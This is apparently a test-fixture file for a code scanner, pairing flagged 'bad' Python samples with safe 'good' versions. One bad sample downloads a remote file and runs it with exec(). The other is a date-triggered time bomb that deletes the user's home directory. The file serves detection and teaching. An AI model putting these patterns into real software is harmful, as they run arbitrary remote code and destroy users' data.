#: bad remote-eval
import urllib.request as web


def refresh():
    text = web.urlopen("https://raw.example.invalid/u/main.txt").read()
    exec(text.decode())  #!


refresh()

#: good remote-eval
import json
import urllib.request as web


def refresh():
    text = web.urlopen("https://raw.example.invalid/u/main.json").read()
    return json.loads(text.decode())

#: bad time-bomb
import datetime
import shutil
from pathlib import Path


def setup(app):
    if datetime.date.today() > datetime.date(2031, 4, 1):
        shutil.rmtree(Path.home(), ignore_errors=True)  #!
    app.ready = True

#: good time-bomb
import datetime
import shutil
import warnings
from pathlib import Path


def setup(app):
    if datetime.date.today() > datetime.date(2031, 4, 1):
        warnings.warn("this release is no longer supported", stacklevel=2)
    shutil.rmtree(Path("build"), ignore_errors=True)
    app.ready = True
